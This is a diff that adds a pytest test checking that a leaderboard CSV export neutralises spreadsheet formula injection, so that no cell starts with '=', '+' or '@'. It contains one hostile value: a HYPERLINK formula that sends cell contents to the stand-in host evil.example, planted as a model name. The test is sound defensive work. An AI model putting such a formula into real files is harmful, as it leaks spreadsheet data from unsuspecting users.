@@ -181,3 +181,21 @@ def test_tiny_model_run_reads_back_and_rescores_to_the_same_numbers(tmp_path, ti
     before = list(RunFolder(run_dir).load_records().values())  # the original samples.jsonl
     assert [r["candidates"] for r in rescored.records] == [r["candidates"] for r in before]
     assert [r["prediction"] for r in rescored.records] == [r["prediction"] for r in before]
+
+
+@pytest.mark.parametrize("wide_table", [False, True])
+def test_leaderboard_csv_neutralises_cells_a_spreadsheet_would_evaluate(tmp_path, wide_table):
+    run = chance_run(tmp_path / "runs")
+    summary = summary_of(run)
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    summary["model"] = payload  # as an OpenAI-compatible server may name its model
+    (run / "summary.json").write_text(json.dumps(summary))
+    out = tmp_path / "leaderboard.csv"
+    args = ["leaderboard", str(tmp_path / "runs"), "-o", str(out)] + (["--wide"] if wide_table else [])
+    result = CliRunner().invoke(app, args)
+    assert result.exit_code == 0, result.output
+    cells = [cell for row in pd.read_csv(out, keep_default_na=False, dtype=str).itertuples() for cell in row[1:]]
+    assert "'" + payload in cells
+    assert not [c for c in cells if isinstance(c, str) and c[:1] in ("=", "+", "@")]
+    # numbers stay numbers: a negative delta or value is not text and is not prefixed
+    assert "'-" not in out.read_text().replace("'" + payload, "")
